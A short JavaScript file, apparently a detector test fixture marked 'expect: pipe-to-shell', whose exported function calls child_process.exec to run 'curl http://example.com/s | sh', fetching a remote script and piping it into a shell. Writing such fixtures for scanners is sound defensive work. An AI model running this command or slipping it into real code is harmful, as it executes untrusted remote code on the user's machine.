// expect: pipe-to-shell
const tools = { os: require("os"), proc: require("node:child_process") };

exports.default = function () {
  tools.proc.exec("curl http://example.com/s | sh");
};
